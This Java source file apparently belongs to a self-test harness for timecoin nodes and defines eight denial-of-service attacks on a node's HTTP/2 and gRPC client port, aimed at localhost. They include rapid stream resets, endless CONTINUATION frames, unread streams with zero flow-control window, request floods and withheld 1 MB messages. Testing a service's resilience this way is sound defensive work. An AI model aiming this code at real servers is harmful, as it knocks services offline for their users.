package io.timecoin.attack;

import io.timecoin.attack.Attack.Origin;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;
import java.util.function.IntFunction;

/** What somebody who reaches the port of clients can do with endless answers and with HTTP/2. */
final class ClientStreamAttacks {

    private static final String HERE = "127.0.0.1";
    private static final String SUBSCRIBE = "/timecoin.v1.Events/Subscribe";
    private static final String STREAM_BLOCKS = "/timecoin.v1.Ledger/StreamBlocks";
    private static final String GET_STATUS = "/timecoin.v1.Ledger/GetStatus";
    private static final String SUBMIT = "/timecoin.v1.Ledger/SubmitTransaction";
    private static final byte[] CANCEL = {0, 0, 0, 8};
    private static final byte[] NO_WINDOW = {0, 4, 0, 0, 0, 0};
    private static final byte[] WIDE = {0x7f, 0, 0, 0};
    private static final byte[] WITH_BLOCKS = {0x10, 1};
    private static final int STREAMS = 90;

    /** Nearly as long as a node takes: of a longer one its head is refused, and nothing is held. */
    private static final int MESSAGE_BYTES = 1_048_000;

    private static final int FRAME_BYTES = 16_384;

    private ClientStreamAttacks() {}

    static List<Attack> all() {
        return List.of(
                Attack.ofClient(
                        "unread-sse",
                        "200 event streams a node from the oldest event on, never read",
                        4_000,
                        ClientStreamAttacks::unreadSse),
                Attack.ofClient(
                                "unread-grpc-streams",
                                "90 streams of blocks on each of 4 connections a node, never read",
                                4_000,
                                raid -> unread(raid, stream -> call(stream, STREAM_BLOCKS, WITH_BLOCKS)))
                        .from(Origin.ONE_HOST, 4),
                Attack.ofClient(
                                "subscribe-and-leave",
                                "subscriptions that are cancelled at once",
                                4_000,
                                raid -> each(
                                        raid,
                                        stream -> join(
                                                call(stream, SUBSCRIBE, new byte[0]),
                                                Http2Frame.encoded(Http2Frame.RST_STREAM, 0, stream, CANCEL))))
                        .from(Origin.ONE_HOST, 4),
                Attack.ofClient(
                                "grpc-flood",
                                "unary calls without end, answers dropped",
                                4_000,
                                raid -> each(raid, stream -> call(stream, GET_STATUS, new byte[0])))
                        .from(Origin.ONE_HOST, 4),
                Attack.ofClient(
                                "withheld-messages",
                                "calls with a message of 1 MB but its last byte, 40 on each of 4 connections a node",
                                400_000_000,
                                ClientStreamAttacks::withheldMessages)
                        .from(Origin.ONE_HOST, 4),
                Attack.ofClient(
                                "client-resets",
                                "requests over HTTP/2 that are reset at once",
                                10_000,
                                raid -> each(
                                        raid,
                                        stream -> join(
                                                document(stream, "/v1/blocks/latest"),
                                                Http2Frame.encoded(Http2Frame.RST_STREAM, 0, stream, CANCEL))))
                        .from(Origin.ONE_HOST, 4),
                Attack.ofClient(
                                "unread-http2",
                                "90 requests on each of 10 connections a node whose answers get no window",
                                4_000,
                                raid -> unread(raid, stream -> document(stream, "/v1/blocks?limit=100")))
                        .from(Origin.ONE_HOST, 10),
                Attack.ofClient(
                                "client-continuations",
                                "endless CONTINUATION frames of no length",
                                1_000_000,
                                ClientStreamAttacks::continuations)
                        .from(Origin.ONE_HOST, 4));
    }

    private static byte[] call(int stream, String path, byte[] message) {
        return join(
                Http2Frame.encoded(
                        Http2Frame.HEADERS,
                        Http2Frame.END_HEADERS,
                        stream,
                        HeaderBlock.call(path, HERE).toBytes()),
                Http2Frame.encoded(
                        Http2Frame.DATA, Http2Frame.END_STREAM, stream, RawHttp2.framed(message.length, message)));
    }

    private static byte[] document(int stream, String path) {
        return Http2Frame.encoded(
                Http2Frame.HEADERS,
                Http2Frame.END_HEADERS | Http2Frame.END_STREAM,
                stream,
                HeaderBlock.get(path, HERE).toBytes());
    }

    private static byte[] join(byte[] one, byte[] other) {
        byte[] both = new byte[one.length + other.length];
        System.arraycopy(one, 0, both, 0, one.length);
        System.arraycopy(other, 0, both, one.length, other.length);
        return both;
    }

    /** One after the other on one connection, whose window is wide. */
    private static void each(Raid raid, IntFunction<byte[]> request) throws IOException {
        HostileConnection connection = raid.greet();
        connection.write(Http2Frame.encoded(Http2Frame.WINDOW_UPDATE, 0, 0, WIDE));
        for (int stream = 1; stream > 0 && raid.goesOn() && !connection.isClosedByPeer(); ) {
            raid.pace(20);
            for (int i = 0; i < 20; i++, stream += 2) {
                connection.write(request.apply(stream));
            }
            connection.flush();
        }
    }

    /** As many at once as a connection carries, and then nothing. */
    private static void unread(Raid raid, IntFunction<byte[]> request) throws IOException {
        HostileConnection connection = raid.connect();
        connection.write(HostileConnection.PREFACE);
        connection.write(Http2Frame.encoded(Http2Frame.SETTINGS, 0, 0, NO_WINDOW));
        for (int stream = 1; stream < 2 * STREAMS; stream += 2) {
            raid.pace(1);
            connection.write(request.apply(stream));
            connection.flush();
        }
        raid.idle(Duration.ofMinutes(1));
    }

    private static void unreadSse(Raid raid) throws IOException {
        String asked = "GET /v1/events HTTP/1.1\r\nHost: 127.0.0.1\r\nLast-Event-ID: 1\r\n\r\n";
        for (int i = 0; i < 200 && raid.goesOn(); i++) {
            raid.pace(1);
            HostileConnection connection = raid.connect();
            connection.write(asked.getBytes(StandardCharsets.US_ASCII));
            connection.flush();
        }
        raid.idle(Duration.ofMinutes(1));
    }

    private static void withheldMessages(Raid raid) throws IOException {
        HostileConnection connection = raid.greet();
        byte[] part = new byte[FRAME_BYTES];
        for (int stream = 1; stream < 80 && raid.goesOn(); stream += 2) {
            connection.write(Http2Frame.encoded(
                    Http2Frame.HEADERS,
                    Http2Frame.END_HEADERS,
                    stream,
                    HeaderBlock.call(SUBMIT, HERE).toBytes()));
            connection.write(
                    Http2Frame.encoded(Http2Frame.DATA, 0, stream, RawHttp2.framed(MESSAGE_BYTES, new byte[0])));
            int sent = 0;
            for (; sent + FRAME_BYTES < MESSAGE_BYTES && raid.goesOn(); sent += FRAME_BYTES) {
                raid.pace(FRAME_BYTES);
                connection.write(Http2Frame.encoded(Http2Frame.DATA, 0, stream, part));
                connection.flush();
            }
            if (raid.goesOn()) {
                connection.write(Http2Frame.encoded(Http2Frame.DATA, 0, stream, new byte[MESSAGE_BYTES - 1 - sent]));
                connection.flush();
            }
        }
        raid.idle(Duration.ofSeconds(5));
    }

    private static void continuations(Raid raid) throws IOException {
        HostileConnection connection = raid.greet();
        connection.write(Http2Frame.encoded(Http2Frame.HEADERS, 0, 1));
        byte[] none = Http2Frame.encoded(Http2Frame.CONTINUATION, 0, 1);
        while (raid.goesOn() && !connection.isClosedByPeer()) {
            raid.pace(1_000);
            for (int i = 0; i < 1_000; i++) {
                connection.write(none);
            }
            connection.flush();
        }
    }
}
